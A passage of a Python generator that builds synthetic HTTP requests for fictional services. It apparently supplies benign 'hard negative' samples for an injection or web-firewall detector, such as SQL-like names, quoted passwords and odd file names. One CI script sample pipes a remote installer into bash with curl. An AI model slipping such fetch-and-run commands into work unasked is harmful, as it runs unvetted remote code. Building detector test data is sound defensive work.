            'query Products {\n  search(query: "%s", first: 10) { ... on Product { id name } ... on Collection { id title } }\n}'
            % R.choice(["drop earrings", "select comfort", "union jack", "script font", "1=1 puzzle"]),
            'mutation DeleteDraft {\n  deleteDraft(id: "d_%s") { deletedId }\n}' % rhex(8),
            'query Users {\n  users(where: {role: {_eq: "%s"}, deleted_at: {_is_null: true}}) { id email }\n}'
            % R.choice(["admin", "owner", "billing"]),
            'query Node {\n  node(id: "%s") { __typename ... on User { id login } }\n}'
            % b64("User:%d" % R.randint(1, 99999)),
        ]
    )


GQL_HOSTS = [
    ("api.chirpnest.social", "/graphql"),
    ("shop.northwind-outfitters.com", "/api/graphql"),
    ("api.taskgrid.io", "/graphql"),
]


def gql_post(gen):
    host, path = R.choice(GQL_HOSTS)
    q = gen()
    op = (
        q.split("(")[0].split("{")[0].split()[-1]
        if q.split()[0] in ("query", "mutation", "subscription") and len(q.split("{")[0].split()) > 1
        else None
    )
    allv = {
        "id": "u_" + rhex(6),
        "first": 20,
        "after": None,
        "withDetails": R.random() < 0.5,
        "q": "lamp",
        "input": {"displayName": R.choice(NAMES)},
    }
    var = {k: v for k, v in allv.items() if "$" + k + ":" in q}
    return B("json", q, host, path, client="api", json={"operationName": op, "query": MARK, "variables": var})


def gql_get(gen):
    host, path = R.choice(GQL_HOSTS)
    q = gen()
    return B(
        "query",
        q,
        host,
        path,
        client="browser",
        q=[("query", MARK), ("variables", json.dumps({"id": "u_" + rhex(6)}, separators=(",", ":")))],
    )


def gql_vars():
    host, path = R.choice(GQL_HOSTS)
    bio = R.choice(
        ["Coffee, code, cats.", "Mum of 3 · Lisbon", "Runner 🏃 and reader 📚", "Product designer @ Taskgrid"]
    )
    return B(
        "json",
        bio,
        host,
        path,
        client="api",
        json={
            "operationName": "UpdateProfile",
            "query": "mutation UpdateProfile($input: UpdateProfileInput!) { updateProfile(input: $input) { user { id } } }",
            "variables": {"input": {"displayName": R.choice(NAMES), "bio": MARK}},
        },
    )


GQLB_N = [lambda: gql_post(gq_n), lambda: gql_post(gq_n), lambda: gql_get(gq_n), gql_vars]
GQLB_H = [lambda: gql_post(gq_h), lambda: gql_post(gq_h), lambda: gql_get(gq_h)]

# ------------------------------------------------------------------- benign_files
FNAMES_N = [
    "Q1 report (final) v2.pdf",
    "IMG_20240312_142233.jpg",
    "résumé_Zoë.docx",
    "data-export_2024-03-31.csv",
    "scan 01.tiff",
    "Meeting notes 2024-05-02.md",
    "logo@2x.png",
    "Budget FY25.xlsx",
    "contract_signed.pdf",
    "holiday-photos.zip",
    "Präsentation_Kunde.pptx",
    "報告書.pdf",
    "voice memo 3.m4a",
]
FNAMES_H = [
    "O'Brien - contract (signed).pdf",
    "C:\\Users\\jsmith\\Desktop\\invoice.pdf",
    "Q1 results & forecast (v2) [draft].xlsx",
    "select_results.sql",
    "install.sh",
    ".env.example",
    "index.html",
    "backup_2024-05-01.tar.gz",
    "script.js",
    "drop-shipping-rates.csv",
    "union_contract_2024.pdf",
    "etc-passwd-explained.txt",
    "..hidden-notes.txt",
]
FCONTENT_H = {
    "select_results.sql": "SELECT id, total FROM orders WHERE total > 100 ORDER BY total DESC;\n",
    "install.sh": "#!/bin/sh\nset -e\nnpm ci\nnpm run build\n",
    ".env.example": "DATABASE_URL=postgres://app:changeme@localhost:5432/app\nSECRET_KEY=replace-me\n",
    "index.html": '<!doctype html>\n<html><head><script src="/static/app.js" defer></script></head><body><div id="root"></div></body></html>\n',
    "script.js": "document.querySelectorAll('a[target=_blank]').forEach(a => a.rel = 'noopener');\n",
    "etc-passwd-explained.txt": "/etc/passwd has seven colon-separated fields: name:password:UID:GID:GECOS:home:shell\n",
}


def rand_fname():
    return R.choice(
        [
            "IMG_2024%02d%02d_%06d.jpg" % (R.randint(1, 12), R.randint(1, 28), R.randint(0, 235959)),
            "Invoice_%05d.pdf" % R.randint(1, 99999),
            "scan_%03d.pdf" % R.randint(1, 999),
            "Screenshot %s at %02d.%02d.%02d.png" % (rdate(), R.randint(0, 23), R.randint(0, 59), R.randint(0, 59)),
            "%s - CV.pdf" % R.choice(NAMES),
            "export_%s.csv" % rdate().replace("-", ""),
            "Foto %d.heic" % R.randint(1, 9999),
            "minutes_%s.docx" % rdate(),
            "Angebot_%d.pdf" % R.randint(1000, 9999),
        ]
    )


def rand_fname_h():
    return R.choice(
        [
            "O'Brien - contract (signed) %d.pdf" % R.randint(1, 99),
            "C:\\Users\\%s\\Desktop\\invoice_%d.pdf"
            % (R.choice(["jsmith", "mgarcia", "admin", "lee"]), R.randint(1, 999)),
            "Q%d results & forecast (v%d) [draft].xlsx" % (R.randint(1, 4), R.randint(1, 9)),
            "select_top_%d_customers.sql" % R.choice([10, 50, 100]),
            "drop_%s_old_rows.sql" % R.choice(["staging", "temp", "audit"]),
            "union-dues-%d.pdf" % R.randint(2019, 2024),
            "exec summary %s.pptx" % rdate(),
            "..%s.txt" % R.choice(["notes", "todo", "scratch"]),
        ]
    )


def ctype_for(fn):
    ext = fn.rsplit(".", 1)[-1].lower()
    return {
        "pdf": "application/pdf",
        "jpg": "image/jpeg",
        "png": "image/png",
        "csv": "text/csv",
        "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "zip": "application/zip",
        "md": "text/markdown",
        "sql": "application/sql",
        "sh": "application/x-sh",
        "html": "text/html",
        "js": "text/javascript",
        "gz": "application/gzip",
    }.get(ext, "application/octet-stream")


def f_upload_name(pool):
    fn = R.choice(pool)
    content = FCONTENT_H.get(fn, "(binary content)")
    return B(
        "multipart",
        fn,
        "drive.cloudnest.io",
        "/api/v1/files",
        client="browser",
        mp=[("parentId", None, None, "fld_" + rhex(8)), ("file", MARK, ctype_for(fn), content)],
    )


def f_upload_content(pool):
    fn = R.choice([k for k in pool if k in FCONTENT_H] or ["notes.txt"])
    content = FCONTENT_H.get(fn, "Call Anna re: delivery dates.\nOrder #4471 ships Tuesday.\n")
    return B(
        "multipart",
        content,
        "app.taskgrid.io",
        "/api/tasks/%d/attachments" % R.randint(100, 9999),
        client="browser",
        mp=[("file", fn, ctype_for(fn), MARK)],
    )


def f_presign(pool):
    fn = R.choice(pool)
    return B(
        "json",
        fn,
        "files.ledgerline.io",
        "/api/uploads/presign",
        client="api",
        json={"filename": MARK, "contentType": ctype_for(fn), "size": R.randint(1000, 9000000)},
    )


def f_query(pool):
    fn = R.choice(pool)
    return B("query", fn, "drive.cloudnest.io", "/api/v1/files/search", q=[("name", MARK), ("type", "any")])


def f_path(pool):
    fn = R.choice(pool)
    return B("path", fn, "files.ledgerline.io", "/download/2024/" + MARK, client="browser", safe="")


def f_header(pool):
    fn = asc(R.choice(pool))
    return B(
        "header",
        fn,
        "drive.cloudnest.io",
        "/api/v1/upload/chunked",
        method="PUT",
        client="api",
        hname="X-File-Name",
        hdrs=[("X-Chunk-Index", str(R.randint(0, 9)))],
    )


def f_folder():
    rel = R.choice(
        [
            "photos/2024/IMG_0042.jpg",
            "project/src/main.py",
            "Invoices/March/INV-0311.pdf",
            "design/assets/icons/star.svg",
        ]
    )
    return B(
        "multipart",
        rel,
        "drive.cloudnest.io",
        "/api/v1/folders/upload",
        client="browser",
        mp=[("relativePath", None, None, MARK), ("file", rel.split("/")[-1], ctype_for(rel), "(binary content)")],
    )


FILES_N = [
    lambda: f_upload_name(FNAMES_N + [rand_fname()]),
    lambda: f_presign([rand_fname()]),
    lambda: f_query(FNAMES_N),
    lambda: f_path([rand_fname()]),
    lambda: f_header([rand_fname()]),
    f_folder,
    lambda: f_upload_content(FNAMES_N),
    lambda: f_upload_name([rand_fname()]),
]
FILES_H = [
    lambda: f_upload_name(FNAMES_H),
    lambda: f_upload_content(FNAMES_H),
    lambda: f_presign([rand_fname_h()]),
    lambda: f_query([rand_fname_h()]),
    lambda: f_path(FNAMES_H),
    lambda: f_upload_name([rand_fname_h()]),
]

# ------------------------------------------------------------------- benign_urls
URLS_N = [
    "https://app.taskgrid.io/oauth/callback",
    "https://shop.northwind-outfitters.com/orders/48213",
    "https://hooks.slack.com/services/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",
    "https://cdn.lumenhome.store/img/products/lamp-oak-1200.jpg",
    "myapp://product/8812?ref=share",
    "https://maps.google.com/?q=Bahnhofstrasse+21,+Z%C3%BCrich",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://discord.com/api/webhooks/1234567890/AbCdEfGhIjKlMnOp",
    "https://example.com/unsubscribe?u=8f2a&list=weekly",
    "https://github.com/ledgerline/billing/pull/412",
    "https://outlook.office.com/webhook/abc@def/IncomingWebhook/123/456",
    "/dashboard",
    "/account/settings?tab=billing",
    "https://en.wikipedia.org/wiki/S%C3%A3o_Paulo",
]
URLS_H_REDIR = [
    "http://localhost:3000/callback",
    "http://127.0.0.1:8080/auth/callback",
    "http://localhost:5173/auth/callback?provider=google",
    "https://app.example.com/cb?next=%2Fsettings%3Ftab%3Dbilling",
    "com.ledgerline.app:/oauth2redirect",
    "https://oauth.pstmn.io/v1/callback",
    "http://[::1]:8000/complete/github/",
]
URLS_H_HOOK = [
    "https://jenkins.ledgerline.io/generic-webhook-trigger/invoke?token=9f2c&cmd=deploy&target=prod",
    "https://ci.example.com/job/build/buildWithParameters?token=x&BRANCH=main&SCRIPT=run-tests.sh",
    "https://hooks.zapier.com/hooks/catch/1234567/abcde/?select=all&union=false",
    "https://n8n.mycompany.io/webhook/orders?exec=1&path=/incoming",
    "https://api.example.com/hooks?redirect=https%3A%2F%2Fexample.org%2Fdone&sig=a%2Bb%3D%3D",
]
URLS_H_NEXT = [
    "/reports?from=2024-01-01&to=2024-03-31&sort=-amount",
    "/cart?coupon=SAVE%2010",
    "/settings#/profile",
    "/search?q=select+comfort&page=2",
    "/orders/48213?tab=items&items[]=1&items[]=2",
    "/admin/users?filter=role%3Dadmin",
]
URLS_H_LONG = [
    "https://www.google.com/search?q=select+from+where+sql",
    "https://github.com/org/repo/blob/main/src/../README.md",
    "ftp://ftp.gnu.org/gnu/bash/",
    "https://xkcd.com/327/",
    "https://example.com/page?utm_source=a&redirect=https%3A%2F%2Fexample.org%2F",
    "https://docs.python.org/3/library/os.html#os.system",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://stackoverflow.com/questions/332365/how-does-the-sql-injection-from-the-bobby-tables-xkcd-comic-work",
]


def rand_url():
    return R.choice(
        [
            "https://shop.northwind-outfitters.com/orders/%d" % R.randint(10000, 99999),
            "https://cdn.lumenhome.store/img/products/%s-%d.jpg"
            % (R.choice(["lamp-oak", "rug-jute", "mug-blue", "chair-ash"]), R.choice([600, 1200, 2400])),
            "myapp://product/%d?ref=share" % R.randint(100, 99999),
            "/account/orders/%d" % R.randint(10000, 99999),
            "https://hooks.slack.com/services/T%s/B%s/%s" % (ralnum(8).upper(), ralnum(8).upper(), ralnum(24)),
            "https://www.youtube.com/watch?v=%s" % ralnum(11),
            "https://github.com/ledgerline/billing/pull/%d" % R.randint(1, 2000),
            "https://maps.google.com/?q=%s"
            % R.choice(["Bahnhofstrasse+21,+Z%C3%BCrich", "Laugavegur+28,+Reykjav%C3%ADk", "Rua+Augusta+274,+Lisboa"]),
            "https://example.com/unsubscribe?u=%s&list=weekly" % rhex(8),
        ]
    )


def u_redirect(pool):
    u = R.choice(pool)
    return B(
        "query",
        u,
        "sso.peoplestack.app",
        "/oauth/authorize",
        client="browser",
        q=[
            ("response_type", "code"),
            ("client_id", "tg_" + rhex(12)),
            ("redirect_uri", MARK),
            ("scope", "openid profile email"),
            ("state", ralnum(16)),
        ],
    )


def u_webhook(pool):
    u = R.choice(pool)
    return B(
        "json",
        u,
        "app.taskgrid.io",
        "/api/integrations/webhooks",
        client="api",
        json={
            "name": R.choice(["deploys", "alerts", "orders"]),
            "url": MARK,
            "events": ["task.created", "task.closed"],
            "active": True,
        },
    )


def u_next(pool):
    u = R.choice(pool)
    return B(
        "form",
        u,
        "online.harborfirst-bank.com",
        "/login",
        client="browser",
        form=[
            ("username", asc(R.choice(NAMES)).split()[0].lower()),
            ("password", "correct horse battery staple"),
            ("next", MARK),
        ],
    )


def u_image(pool):
    u = R.choice(pool)
    return B(
        "json",
        u,
        "api.cartwheel-market.com",
        "/v1/products/%d" % R.randint(100, 99999),
        client="api",
        method="PATCH",
        json={"images": [{"url": MARK, "alt": "product photo"}]},
    )


def u_shortener(pool):
    u = R.choice(pool)
    return B("form", u, "sho.rt", "/api/shorten", client="browser", form=[("long_url", MARK), ("domain", "sho.rt")])


def u_cookie(pool):
    u = R.choice(pool)
    return B(
        "cookie",
        u,
        "shop.northwind-outfitters.com",
        "/login",
        client="browser",
        cookies=[("sid", ralnum(30)), ("return_to", MARK)],
    )


URL_N = [
    lambda: u_redirect(URLS_N[:1] + ["https://app.taskgrid.io/oauth/callback?tenant=%s" % ralnum(6)]),
    lambda: u_webhook(URLS_N + [rand_url()]),
    lambda: u_next(["/dashboard", "/account/settings?tab=billing", "/orders/%d" % R.randint(10000, 99999)]),
    lambda: u_image([rand_url()]),
    lambda: u_shortener([rand_url()]),
    lambda: u_cookie(["/checkout", "/orders/%d" % R.randint(10000, 99999)]),
]
URL_H = [
    lambda: u_redirect(URLS_H_REDIR),
    lambda: u_webhook(URLS_H_HOOK),
    lambda: u_next(URLS_H_NEXT),
    lambda: u_shortener(URLS_H_LONG),
    lambda: u_image(
        [
            "https://cdn.lumenhome.store/img/a%2Fb/lamp.jpg?w=1200&fit=crop&q=80",
            "https://images.example.com/../catalog/lamp.png",
            "https://res.cloudinary.com/demo/image/upload/w_300,h_200,c_crop/sample.jpg",
        ]
    ),
]


# ------------------------------------------------------------------- benign_base64
def b64_avatar():
    uri = "data:image/png;base64," + b64(
        png_bytes(R.randint(1, 4), R.randint(1, 4), (R.randrange(256), R.randrange(256), R.randrange(256)))
    )
    return B(
        "json",
        uri,
        "hr.peoplestack.app",
        "/api/me/avatar",
        client="api",
        method="PUT",
        json={"avatar": MARK, "crop": {"x": 0, "y": 0}},
    )


def b64_jwt_header():
    t = "Bearer " + fake_jwt(
        {
            "iss": "https://sso.peoplestack.app",
            "sub": "usr_" + rhex(10),
            "aud": "taskgrid-api",
            "iat": 1733600000 + R.randint(0, 99999),
            "exp": 1733700000 + R.randint(0, 99999),
            "email": email_for(R.choice(NAMES)),
        },
        R.choice(["HS256", "RS256"]),
    )
    return B("header", t, "api.taskgrid.io", "/v1/projects", client="api", hname="Authorization", noextra=True)


def b64_idtoken():
    t = fake_jwt(
        {
            "iss": "https://accounts.google.com",
            "azp": rdigits(12) + ".apps.googleusercontent.com",
            "sub": rdigits(21),
            "email_verified": True,
            "name": R.choice(NAMES),
            "nonce": ralnum(16),
        },
        "RS256",
    )
    return B(
        "form",
        t,
        "app.taskgrid.io",
        "/auth/oidc/callback",
        client="browser",
        form=[("id_token", MARK), ("state", ralnum(24)), ("session_state", rhex(40) + "." + ralnum(8))],
    )


def b64_attachment():
    txt = R.choice(["Invoice attached. Thanks!", "Minutes of the meeting, 2 May.", "Shipping label for order 4471."])
    pdfish = "%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n% " + txt + "\n%%EOF\n"
    return B(
        "json",
        b64(pdfish),
        "api.mailrelay.io",
        "/v3/mail/send",
        client="api",
        json={
            "personalizations": [{"to": [{"email": email_for(R.choice(NAMES))}]}],
            "from": {"email": "billing@ledgerline.io"},
            "subject": "Your invoice",
            "content": [{"type": "text/plain", "value": txt}],
            "attachments": [
                {"content": MARK, "filename": "invoice.pdf", "type": "application/pdf", "disposition": "attachment"}
            ],
        },
    )


def b64_basic():
    user = asc(R.choice(NAMES)).split()[0].lower()
    return B(
        "header",
        "Basic " + b64("%s:%s" % (user, R.choice(["Summer2024!", "t0p-s3cret", "correct horse battery staple"]))),
        "registry.ledgerline.io",
        "/v2/_catalog",
        client="api",
        hname="Authorization",
        noextra=True,
    )


def b64_flask_cookie():
    v = (
        b64url(json.dumps({"user_id": R.randint(1, 99999), "cart": R.randint(0, 5)}, separators=(",", ":")))
        + "."
        + b64url(bytes(R.randrange(256) for _ in range(4)))
        + "."
        + b64url(bytes(R.randrange(256) for _ in range(20)))
    )
    return B("cookie", v, "shop.northwind-outfitters.com", "/cart", client="browser", cookies=[("session", MARK)])


def b64_sig():
    return B(
        "header",
        "sha256=" + hashlib.sha256(rhex(32).encode()).hexdigest(),
        "ci.ledgerline.io",
        "/hooks/github",
        method="POST",
        client="api",
        hname="X-Hub-Signature-256",
        json={"ref": "refs/heads/main", "after": rhex(40)},
    )


def b64_k8s():
    v = b64(R.choice(["postgres://app:%s@db:5432/app" % ralnum(12), "redis://cache:6379/0", ralnum(32)]))
    return B(
        "json",
        v,
        "k8s.ledgerline.io",
        "/api/v1/namespaces/billing/secrets",
        client="api",
        json={
            "apiVersion": "v1",
            "kind": "Secret",
            "metadata": {"name": "app-secrets"},
            "type": "Opaque",
            "data": {"DATABASE_URL": MARK},
        },
    )


def b64_image_form():
    v = b64(png_bytes(3, 3, (R.randrange(256), 90, 40)))
    return B(
        "form",
        v,
        "hr.peoplestack.app",
        "/profile/signature",
        client="browser",
        form=[("format", "png"), ("image", MARK)],
    )


B64_N = [
    b64_avatar,
    b64_jwt_header,
    b64_idtoken,
    b64_attachment,
    b64_basic,
    b64_flask_cookie,
    b64_sig,
    b64_k8s,
    b64_image_form,
]


def b64h_svg():
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2l3 7h7l-5.5 4 2 7L12 16l-6.5 4 2-7L2 9h7z" fill="#%s"/></svg>'
        % rhex(6)
    )
    return B(
        "json",
        "data:image/svg+xml;base64," + b64(svg),
        "cms.lumenhome.store",
        "/api/icons",
        client="api",
        json={"name": "star-" + rhex(3), "src": MARK},
    )


def b64h_script():
    sh = R.choice(
        [
            "#!/bin/bash\nset -e\nnpm ci && npm test\n",
            "#!/bin/sh\ncurl -fsSL https://deb.nodesource.com/setup_20.x | bash -\n",
            "#!/bin/bash\nrm -rf dist && vite build\n",
        ]
    )
    return B(
        "json",
        b64(sh),
        "ci.ledgerline.io",
        "/api/v2/jobs",
        client="api",
        json={"name": "build", "image": "node:20", "script_b64": MARK, "timeout": 600},
    )


def b64h_jwt_admin():
    t = fake_jwt(
        {
            "sub": "usr_" + rhex(10),
            "roles": ["admin", "billing:write"],
            "tenant": "acme",
            "scope": "*",
            "iat": 1733600000 + R.randint(0, 99999),
        },
        "RS256",
    )
    return B(
        "json",
        t,
        "api.taskgrid.io",
        "/v1/auth/introspect",
        client="api",
        json={"token": MARK, "token_type_hint": "access_token"},
    )


def b64h_query():
    v = b64(bytes(R.randrange(256) for _ in range(R.randint(18, 40))))
    return B(
        "query",
        v,
        "shop.northwind-outfitters.com",
        "/checkout/resume",
        client="browser",
        q=[("state", MARK), ("v", "2")],
    )


def b64h_pem():
    body = b64(bytes(R.randrange(256) for _ in range(180)))
    pem = (
        "-----BEGIN CERTIFICATE-----\n"
        + "\n".join(body[i : i + 64] for i in range(0, len(body), 64))
        + "\n-----END CERTIFICATE-----\n"
    )
    return B(
        "json",
        pem,
        "console.metricvault.dev",
        "/api/tls/certificates",
        client="api",
        json={"name": "edge-" + rhex(4), "certificate": MARK},
    )


def b64h_saml():
    xml = (
        '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_%s" Version="2.0" IssueInstant="%s">'
        '<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://idp.peoplestack.app</saml:Issuer>'
        '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status></samlp:Response>'
    ) % (rhex(20), rtime_iso())
    return B(
        "form",
        b64(xml),
        "app.taskgrid.io",
        "/saml/acs",
        client="browser",
        form=[("SAMLResponse", MARK), ("RelayState", "/projects")],
    )


def b64h_json():
    v = b64(
        json.dumps(
            {
                "$schema": "https://json-schema.org/draft/2020-12/schema",
                "$ref": "#/$defs/order",
                "where": "status = 'open'",
            }
        )
    )
    return B(
        "cookie",
        v,
        "app.taskgrid.io",
        "/reports",
        client="browser",
        cookies=[("report_cfg", MARK), ("sid", ralnum(24))],
    )


B64_H = [b64h_svg, b64h_script, b64h_jwt_admin, b64h_query, b64h_pem, b64h_saml, b64h_json]

# ------------------------------------------------------------------- benign_api_json
API = "api.cartwheel-market.com"


def api_order():
    name = R.choice(NAMES)
    city = R.choice(CITIES)
    return B(
        "json",
        city,
        API,
        "/v2/orders",
        client="api",
        json={
            "customer": {"name": name, "email": email_for(name)},
            "shipping": {
                "line1": "%d Market St" % R.randint(1, 300),
                "city": MARK,
                "country": R.choice(["DE", "FR", "BR", "PL", "IS", "CA", "JP"]),
            },
            "items": [
                {"sku": "SKU-%s" % rdigits(5), "qty": R.randint(1, 3), "price": float(money(5, 200))}
                for _ in range(R.randint(1, 3))
            ],
            "giftWrap": R.random() < 0.3,
            "coupon": None,
        },
    )


def api_profile():
    name = R.choice(NAMES)
    return B(
        "json",
        name,
        "hr.peoplestack.app",
        "/api/v1/employees/%d" % R.randint(100, 9999),
        client="api",
        method="PATCH",
        json={
            "displayName": MARK,
            "pronouns": R.choice(["she/her", "he/him", "they/them", None]),
            "locale": R.choice(["de-CH", "pt-BR", "ja-JP"]),
        },
    )


def api_jsonapi():
    t = R.choice(
        ["Quarterly planning", "Fix login redirect", "Café menu redesign", "Прототип нового сайта", "新しいロゴ"]
    )
    return B(
        "json",
        t,
        "api.taskgrid.io",
        "/v1/tasks",
        client="api",
        ctype="application/vnd.api+json",
        json={
            "data": {
                "type": "tasks",
                "attributes": {"title": MARK, "priority": R.randint(1, 4)},
                "relationships": {"project": {"data": {"type": "projects", "id": rdigits(4)}}},
            }
        },
    )


def api_pagination():
    v = R.choice(["active", "archived", "pending_review"])
    return B(
        "query",
        v,
        "api.taskgrid.io",
        "/v1/projects",
        client="api",
        q=[
            ("page[size]", "25"),
            ("page[number]", str(R.randint(1, 9))),
            ("filter[status]", MARK),
            ("sort", "-created_at"),
            ("include", "owner,tags"),
        ],
    )


def api_bulk():
    items = [{"id": R.randint(1, 9999), "stock": R.randint(0, 500)} for _ in range(R.randint(2, 4))]
    return B(
        "json", items, API, "/v2/inventory/bulk", client="api", method="PUT", json={"warehouse": "FRA-1", "items": MARK}
    )


def api_device():
    v = {"temp_c": round(R.uniform(16, 26), 1), "humidity": R.randint(30, 70), "battery": R.randint(5, 100)}
    return B(
        "json",
        v,
        "hub.thermacore-hub.net",
        "/api/v1/devices/TC-%s/telemetry" % rhex(6).upper(),
        client="api",
        json={"ts": rtime_iso(), "readings": MARK, "fw": "3.2.%d" % R.randint(0, 9)},
    )


def api_key():
    k = R.choice(["shipping_address", "billing_address", "gift_message", "delivery_instructions", "loyalty_id"])
    return B(
        "json_key",
        k,
        API,
        "/v2/carts/%s" % rhex(10),
        client="api",
        method="PATCH",
        json={"fields": {MARK: R.choice(["", None, "n/a"])}},
    )


def api_path():
    slug = R.choice(
        ["trail-runner-2", "oak-desk-lamp", "linen-duvet-cover-king", "café-au-lait-mug", "kids-raincoat-yellow"]
    )
    return B("path", slug, API, "/v2/products/" + MARK, client="api")


API_N = [api_order, api_profile, api_jsonapi, api_pagination, api_bulk, api_device, api_key, api_path]


def apih_patch():
    ops = [
        {"op": "replace", "path": "/address/0/city", "value": R.choice(CITIES)},
        {"op": "remove", "path": "/tags/%d" % R.randint(0, 5)},
        {"op": "add", "path": "/roles/-", "value": "editor"},
        {"op": "move", "from": "/draft/title", "path": "/title"},
        {"op": "test", "path": "/version", "value": R.randint(1, 9)},
    ]
    sel = R.sample(ops, 2)
    return B(
        "json",
        sel,
        "api.taskgrid.io",
        "/v1/users/%d" % R.randint(1, 9999),
        client="api",
        method="PATCH",
        ctype="application/json-patch+json",
        json=MARK,
    )


def apih_schema():
    k = R.choice(["$schema", "$ref", "$id", "$defs", "$comment"])
    return B(
        "json_key",
        k,
        "schemas.ledgerline.io",
        "/api/schemas",
        client="api",
        json={
            MARK: {
                "$schema": "https://json-schema.org/draft/2020-12/schema",
                "$ref": "#/$defs/address",
                "$id": "https://schemas.ledgerline.io/invoice.json",
                "$defs": {},
                "$comment": "v2",
            }[k],
            "title": "Invoice",
        },
    )


def apih_expr():
    e = R.choice(
        [
            "status:active AND created>2024-01-01",
            "price * qty > 100",
            "Hello {{first_name}}, your order {{order_id}} shipped!",
            "*/5 * * * *",
            "/var/lib/app/data",
            "npm run build && npm run test -- --ci",
            "country IN ('DE','AT','CH') OR vip = true",
            "${HOME}/.config/app.yaml",
            "SELECT-all checkbox label",
            "<= 50% utilisation",
        ]
    )
    return B(
        "json",
        e,
        "api.taskgrid.io",
        "/v1/automations",
        client="api",
        json={"name": "rule-" + rhex(4), "definition": MARK, "enabled": True},
    )


def apih_filter():
    v = {
        "status": {"in": ["open", "pending"]},
        "total": {"gte": R.randint(10, 500)},
        "email": {"endsWith": "@example.com"},
    }
    return B(
        "json",
        v,
        API,
        "/v2/orders/search",
        client="api",
        json={"where": MARK, "orderBy": {"createdAt": "desc"}, "take": 50},
    )


def apih_querykey():
    k = R.choice(
        ["filter[name][like]", "fields[orders]", "filter[created_at][gte]", "sort[0][field]", "where[or][0][email]"]
    )
    return B(
        "query_key",
        k,
        "api.taskgrid.io",
        "/v1/records",
        client="api",
        q=[(MARK, R.choice(["%smith%", "id,total", "2024-01-01", "created_at", "a@b.co"])), ("limit", "50")],
    )


def apih_unicode():
    t = R.choice(
        [
            "مرحبا بالعالم",
            "Ünïcödé ✓ — “quotes” ‘single’",
            "Zażółć gęślą jaźń",
            "🙂 <- emoji at start; end -> 🙃",
            "日本語のテキスト（全角）＜テスト＞",
        ]
    )
    return B(
        "json",
        t,
        API,
        "/v2/reviews",
        client="api",
        json={"productId": R.randint(1, 9999), "text": MARK, "rating": R.randint(1, 5)},
    )


API_H = [apih_patch, apih_schema, apih_expr, apih_filter, apih_querykey, apih_unicode]


# ------------------------------------------------------------------- benign_forms
def frm_login():
    u = email_for(R.choice(NAMES))
    return B(
        "form",
        u,
        "online.harborfirst-bank.com",
        "/login",
        client="browser",
        form=[("email", MARK), ("password", R.choice(["Summer2024!", "bluefish77", "Kx9#mP2q"])), ("remember", "on")],
    )


def frm_signup():
    n = R.choice(NAMES)
    return B(
        "form",
        n,
        "app.taskgrid.io",
        "/signup",
        client="browser",
        form=[
            ("full_name", MARK),
            ("email", email_for(n)),
            ("password", ralnum(14)),
            ("company", R.choice(COMPANIES)),
            ("tos", "1"),
        ],
    )


def frm_contact():
    m = R.choice(
        [
            "Hi, I'd like to know if you ship to Iceland.",
            "Do you offer gift wrapping?",
            "My discount code isn't working at checkout.",
            "Can I change the delivery address for order 48213?",
            "Is the oak lamp available in walnut?",
        ]
    )
    return B(
        "form",
        m,
        "www.lumenhome.store",
        "/contact",
        client="browser",
        form=[
            ("name", R.choice(NAMES)),
            ("email", email_for(R.choice(NAMES))),
            ("topic", "general"),
            ("message", MARK),
        ],
    )


def frm_checkout():
    a = "%d %s" % (
        R.randint(1, 250),
        R.choice(["High Street", "Hauptstraße", "Rue de Rivoli", "Calle Mayor", "Main St"]),
    )
    return B(
        "form",
        a,
        "shop.northwind-outfitters.com",
        "/checkout/shipping",
        client="browser",
        form=[
            ("first_name", "Ana"),
            ("last_name", "Costa"),
            ("address1", MARK),
            ("city", R.choice(CITIES)),
            ("zip", rdigits(5)),
            ("country", "PT"),
            ("payment_token", "tok_" + ralnum(24)),
            ("shipping_method", "standard"),
        ],
    )


def frm_newsletter():
    e = email_for(R.choice(NAMES))
    return B(
        "form",
        e,
        "www.lumenhome.store",
        "/newsletter/subscribe",
        client="browser",
        form=[("email", MARK), ("list", "weekly")],
    )


def frm_reset():
    e = email_for(R.choice(NAMES))
    return B("json", e, "sso.peoplestack.app", "/api/password/forgot", client="browser", json={"email": MARK})


def frm_survey():
    v = R.choice(["Very satisfied", "Somewhat satisfied", "Neutral", "Delivery was late but support was great."])
    return B(
        "multipart",
        v,
        "survey.helpdeskly.com",
        "/s/%s/submit" % ralnum(8),
        client="browser",
        mp=[
            ("q1", None, None, str(R.randint(1, 10))),
            ("q2", None, None, MARK),
            ("screenshot", "", "application/octet-stream", ""),
        ],
    )


def frm_job():
    n = R.choice(NAMES)
    return B(
        "multipart",
        n,
        "careers.ledgerline.io",
        "/apply/%d" % R.randint(100, 999),
        client="browser",
        mp=[
            ("name", None, None, MARK),
            ("email", None, None, email_for(n)),
            ("cv", "CV_%s.pdf" % asc(n).replace(" ", "_"), "application/pdf", "%PDF-1.7\n"),
        ],
    )


FORM_N = [frm_login, frm_signup, frm_contact, frm_checkout, frm_newsletter, frm_reset, frm_survey, frm_job]


def frmh_password():
    p = R.choice(
        [
            "P@ss'w0rd!<3",
            "Tr0ub4dor&3",
            "p4$$w0rd--",
            "x<y>z#1;",
            '"quoted"Pass1',
            "O'Reilly#2024",
            "1=1Pass!word",
            "s3l3ct*From!",
            "%^&*()_+{}|:<>?",
        ]
    )
    return B(
        "form",
        p,
        "online.harborfirst-bank.com",
        "/login",
        client="browser",
        form=[("email", email_for(R.choice(NAMES))), ("password", MARK), ("remember", "on")],
    )


def frmh_name():
    n = R.choice(
        [
            "Siobhan O'Brien",
            "D'Angelo Reyes",
            "Anne-Marie Lefèvre",
            "Liam O'Connor",
            "Mary-Kate O'Neil-Smith",
            "Jean d'Ormesson",
            "Nuño Iñárritu",
            "Select Comfort",
        ]
    )
    return B(
        "form",
        n,
        "app.taskgrid.io",
        "/signup",
        client="browser",
        form=[("full_name", MARK), ("email", email_for(n)), ("password", ralnum(14))],
    )


def frmh_textarea():
    m = R.choice(
        [
